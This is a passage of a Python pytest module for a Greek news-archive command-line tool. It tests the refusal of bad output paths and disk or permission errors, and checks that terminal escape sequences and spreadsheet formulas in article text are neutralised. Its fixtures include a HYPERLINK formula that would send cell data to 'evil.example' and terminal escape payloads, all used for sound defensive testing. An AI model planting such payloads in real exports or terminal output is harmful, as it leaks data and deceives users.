    case("-o link to fifo", "not a regular file", "sites -o {tmp}/fifo-link"),
    case("-o empty", "needs a file name", "export --db {db} -o ''"),
    case("-o the archive", "is the archive being read", "export --db {db} -o {db}"),
    case("-o its wal", "is the archive being read", "search x --db {db} -o {db}-wal"),
    case("-o a link to it", "is the archive being read", "export --db {db} -o {tmp}/db-link"),
    case("-o a hard link", "is the archive being read", "export --db {db} -o {tmp}/db-hard"),
    case("-o the page", "is the page being read", "extract {page} --url {url} -o {page}"),
    case(
        "fixture over its page",
        "is the page being read",
        "savefixture thessaliatv {tmp}/saved.json --url {url} --fetched-at 2026-02-09 -o "
        "{tmp}/saved.json",
    ),
    case(
        "-o full disk",
        "No space left on device",
        "export --db {db} -o {tmp}/existing.jsonl",
        patch=no_space,
    ),
    case(
        "-o new, full disk",
        "No space left on device",
        "search λάρισα --db {db} -o {tmp}/new.json",
        patch=no_space,
    ),
    case(
        "extract, full disk",
        "No space left on device",
        "extract {page} --url {url} -o {tmp}/out.json",
        patch=no_space,
    ),
    case(
        "fixture, full disk",
        "No space left on device",
        SAVE + " --url {url} -o {tmp}/fixture.json",
        patch=no_space,
    ),
    case(
        "-o unwritable",
        "Permission denied",
        "export --db {db} -o {tmp}/existing.jsonl",
        patch=no_permission,
    ),
    case(
        "sites unwritable",
        "Permission denied",
        "sites --format csv -o {tmp}/sites.csv",
        patch=no_permission,
    ),
    case("raw csv, table", "--raw-csv goes with --format csv", "sites --raw-csv"),
    # demo: refused before serving or crawling
    case("demo empty query", "empty search", "demo --db {tmp}/demo.db --query ''"),
    case("demo 1000 words", "at most 50", "demo --db {tmp}/demo.db --query {words}"),
    case("demo corrupt db", "not a database", "demo --db {tmp}/corrupt.db"),
    case("demo empty db", "empty database URL", "demo --db ''"),
    # what is shown of the input stays on one line
    case("newline in a path", "no archive at", "search", "x", "--db", "{tmp}/a\nb.db"),
    case(
        "escape in a path", "cannot read", "extract", "{tmp}/\x1b]0;title\x07", "--url", ARTICLE_URL
    ),
]


@pytest.mark.parametrize(("args", "fragment", "code", "patch"), HOSTILE)
def test_hostile_input_is_refused_on_one_line_and_changes_nothing(
    workspace_template: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    args: list[str],
    fragment: str,
    code: int,
    patch: Any,
) -> None:
    names = {**make_workspace(workspace_template, tmp_path / "work"), "url": ARTICLE_URL}
    monkeypatch.chdir(tmp_path / "work")  # a default archive would appear here
    monkeypatch.delenv("NEWSARCHIVE_DATABASE_URL", raising=False)

    def no_crawl(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("the crawl started: the input should have been refused")

    monkeypatch.setattr("newsarchive.crawl.run_crawl", no_crawl)
    monkeypatch.setattr("newsarchive.fixture_server.serve", no_crawl)
    before = snapshot(tmp_path)
    if patch is not None:
        patch(monkeypatch)
    result = CliRunner().invoke(
        main, [arg.format(**names) for arg in args], prog_name="newsarchive"
    )
    assert not isinstance(result.exception, AssertionError), result.exception
    assert (result.exit_code, result.stdout) == (code, ""), (result.stderr, result.exception)
    assert result.stderr.count("\n") == 1 and re.match(
        r"newsarchive( \w+)?: error: ", result.stderr
    )
    assert fragment in result.stderr, result.stderr
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.stderr), result.stderr
    monkeypatch.undo()
    assert snapshot(tmp_path) == before


def test_stdout_on_a_full_disk_is_one_line() -> None:
    for args in (["sites"], ["sites", "--format", "json"]):
        with open("/dev/full", "w") as full:
            done = subprocess.run(
                [sys.executable, "-m", "newsarchive", *args],
                stdout=full,
                stderr=subprocess.PIPE,
                text=True,
                timeout=60,
            )
        assert done.returncode == 2
        assert (
            done.stderr == "newsarchive: error: cannot write to stdout: No space left on device\n"
        )


def test_an_argument_that_is_not_utf8_from_the_shell(filled_db: str, tmp_path: Path) -> None:
    before = snapshot(tmp_path)
    done = subprocess.run(
        [sys.executable, "-m", "newsarchive", "search", b"\xce\xbb\xff", "--db", filled_db],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.count("\n") == 1 and "is not valid text" in done.stderr
    assert snapshot(tmp_path) == before


# --- untrusted text: terminals and spreadsheets -------------------------------------------------

HOSTILE_HEADLINE = "\x1b[2J\x1b]0;pwned\x07Λάρισα: \u202eτίτλος\x9b31m κι άλλο\r\nτέλος"
FORMULA_LEAD = '=HYPERLINK("http://evil.example/?"&A1,"Λάρισα")'


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    """An archive holding an article whose text is made to attack terminals and spreadsheets."""
    page = imerida()
    made = extract(page.read_html(), page.url, fetched_at=page.fetched_at)
    made.headline, made.lead, made.section = HOSTILE_HEADLINE, FORMULA_LEAD, "-2+3"
    made.tags = ["@SUM(1+1)", "\tκαρτέλα", "+30 2410"]
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    with Archive(url) as archive:
        archive.upsert(made)
    return url


@pytest.mark.parametrize("command", ["search", "extract"])
def test_tables_show_no_control_characters(hostile_db: str, tmp_path: Path, command: str) -> None:
    if command == "search":
        code, out, err = run("search", "λάρισα", "--db", hostile_db)
    else:
        page = tmp_path / "page.html"
        page.write_text(
            imerida().read_html().replace("Ημερίδα", "&#27;]0;pwned&#7;\u202eΗμερίδα"),
            encoding="utf-8",
        )
        code, out, err = run("extract", str(page), "--url", imerida().url, "--format", "table")
    assert code == 0, err
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out), out
    shown = (
        "[2J]0;pwnedΛάρισα: τίτλος31m κι άλλο τέλος" if command == "search" else "]0;pwnedΗμερίδα"
    )
    assert shown in out


@pytest.mark.parametrize("output_format", ["json", "jsonl"])
def test_json_keeps_the_text_exact(hostile_db: str, output_format: str) -> None:
    code, out, _ = run("export", "--db", hostile_db, "--format", output_format)
    assert code == 0
    (data,) = records_of(output_format, out)
    assert data["headline"] == HOSTILE_HEADLINE and data["lead"] == FORMULA_LEAD
    assert "\x1b" not in out  # escaped by JSON


def test_csv_cells_that_a_spreadsheet_would_run_are_protected(hostile_db: str) -> None:
    code, out, _ = run("export", "--db", hostile_db, "--format", "csv")
    assert code == 0
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["lead"] == "'" + FORMULA_LEAD
    assert row["section"] == "'-2+3"
    # begins with ESC: data, not a formula (click's test runner reads \r\n as \n)
    assert row["headline"] == HOSTILE_HEADLINE.replace("\r\n", "\n")
    assert json.loads(row["tags"]) == ["@SUM(1+1)", "\tκαρτέλα", "+30 2410"]  # a JSON cell: `[`
    assert row["canonical_url"].startswith("https://")
    code, raw, _ = run("export", "--db", hostile_db, "--format", "csv", "--raw-csv")
    assert code == 0
    (row,) = csv.DictReader(io.StringIO(raw))
    assert row["lead"] == FORMULA_LEAD and row["section"] == "-2+3"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_every_formula_start_is_protected(value: str) -> None:
    assert cli.csv_cell(value, protect=True) == "'" + value
    assert cli.csv_cell(value, protect=False) == value
    assert cli.csv_cell("Λάρισα " + value, protect=True) == "Λάρισα " + value


# --- output files: symlinks, permissions, and reading never writes ----------------------------


def test_output_through_a_symlink_writes_its_target(filled_db: str, tmp_path: Path) -> None:
    target = tmp_path / "exports" / "latest.jsonl"
    target.parent.mkdir()
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "link.jsonl"
    link.symlink_to(target)
    code, _, err = run("export", "--db", filled_db, "-o", str(link))
    assert code == 0, err
    assert link.is_symlink() and link.resolve() == target
    assert len(target.read_text(encoding="utf-8").splitlines()) == len(site_fixtures())
    assert sorted(path.name for path in target.parent.iterdir()) == ["latest.jsonl"]


def test_output_keeps_the_permissions_of_the_file_it_replaces(
    filled_db: str, tmp_path: Path
) -> None:
    kept = tmp_path / "kept.csv"
    kept.write_text("old\n", encoding="utf-8")
    kept.chmod(0o640)
    assert run("export", "--db", filled_db, "--format", "csv", "-o", str(kept))[0] == 0
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    new = tmp_path / "new.csv"
    assert run("export", "--db", filled_db, "--format", "csv", "-o", str(new))[0] == 0
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(new.stat().st_mode) == 0o666 & ~umask


def test_read_commands_write_nothing_to_the_archive(filled_db: str, tmp_path: Path) -> None:
    before = snapshot(tmp_path)
    for args in (["search", "λάρισα"], ["export"], ["export", "--format", "csv"]):
        code, _, err = run(*args, "--db", filled_db)
        assert code == 0, err
    assert snapshot(tmp_path) == before
    assert filled_db.startswith("postgresql") or (tmp_path / "archive.db").exists()


def without_privileges(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """The command as a user that file permissions apply to (root without its DAC powers)."""
    prefix: list[str] = []
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        if setpriv is None:
            pytest.skip("running as root without setpriv: file permissions do not apply")
        prefix = [setpriv, "--inh-caps=-all", "--bounding-set=-dac_override,-dac_read_search"]
    return subprocess.run(
        [*prefix, sys.executable, "-m", "newsarchive", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.parametrize("read_only", ["file", "folder"])
def test_a_read_only_archive_can_be_searched_and_exported(tmp_path: Path, read_only: str) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    with Archive(f"sqlite:///{folder / 'archive.db'}") as archive:
        for fixture in site_fixtures():
            archive.upsert(extract(fixture.read_html(), fixture.url, fetched_at=fixture.fetched_at))
    (folder / "archive.db").chmod(0o444)
    if read_only == "folder":
        folder.chmod(0o555)
    before = snapshot(folder)
    try:
        searched = without_privileges("search", "λάρισα", "--db", "ro/archive.db", cwd=tmp_path)
        exported = without_privileges("export", "--db", "ro/archive.db", cwd=tmp_path)
        crawled = without_privileges("crawl", "thessaliatv", "--db", "ro/archive.db", cwd=tmp_path)
        assert snapshot(folder) == before
    finally:
        folder.chmod(0o755)
    assert searched.returncode == 0, searched.stderr
    assert "Λάρισα" in searched.stdout
    assert exported.returncode == 0 and len(exported.stdout.splitlines()) == len(site_fixtures())
    assert crawled.returncode == 2 and crawled.stdout == ""
    assert crawled.stderr.count("\n") == 1 and "read-only" in crawled.stderr


def test_a_read_only_folder_refuses_an_output_file(filled_db: str, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        done = without_privileges("export", "--db", filled_db, "-o", "out/x.jsonl", cwd=tmp_path)
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o755)
    assert done.returncode == 2 and done.stdout == ""
    assert (
        done.stderr
        == f"newsarchive: error: cannot write out/x.jsonl: folder {folder} is not writable\n"
    )


# --- extract reads through the one record path ------------------------------------------------


def test_extract_reads_the_page_through_from_response(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from newsarchive import extract as extraction

    calls: list[tuple[bytes, Any, str]] = []
    real = extraction.from_response

    def spy(body: bytes, content_type: Any, url: str, **kwargs: Any) -> Any:
        calls.append((body, content_type, url))
        return real(body, content_type, url, **kwargs)

    monkeypatch.setattr(extraction, "from_response", spy)
    page = imerida()
    page_1253 = tmp_path / "page.html"
    page_1253.write_bytes(
        page.read_html()
        .replace('charset="utf-8"', 'charset="windows-1253"')
        .encode("cp1253", "replace")
    )
    for path in (page.html, page_1253):
        code, out, err = run("extract", str(path), "--url", page.url)
        assert code == 0, err
        assert json.loads(out)["headline"] == page.expected["headline"]
    assert [call[2] for call in calls] == [page.url, page.url]
    assert calls[0][0] == page.html.read_bytes()


def test_the_crawl_summary_hides_the_database_password(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.print_summary([], "postgresql+psycopg://news:s3cret@db.example/news")
    out = capsys.readouterr().out
    assert "s3cret" not in out and "news:***@db.example" in out


def test_concurrent_first_crawls_into_a_new_file_all_open_it(tmp_path: Path) -> None:
    """Several crawls started at once on an archive that does not exist yet: each gets through
    opening (here to an unreachable mirror, so exit 1, or skips the site another of them holds,
    exit 0), none trips over another's schema."""
    db = tmp_path / "new.db"
    command = [sys.executable, "-m", "newsarchive", "crawl", "thessaliatv", "--db", str(db)]
    crawls = [
        subprocess.Popen(
            [*command, "--mirror", "http://127.0.0.1:9"],
            cwd=tmp_path,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(6)
    ]
    results = [(crawl.wait(timeout=300), *crawl.communicate()) for crawl in crawls]
    for code, out, err in results:
        crawled = code == 1 and "[FAILED] thessaliatv" in out
        assert crawled or (code == 0 and "[skipped] thessaliatv" in out), err
        assert "already exists" not in err
    assert any(code == 1 for code, _, _ in results)
    with Archive(f"sqlite:///{db}", read_only=True) as archive:
        assert archive.known_urls("thessaliatv") == set()
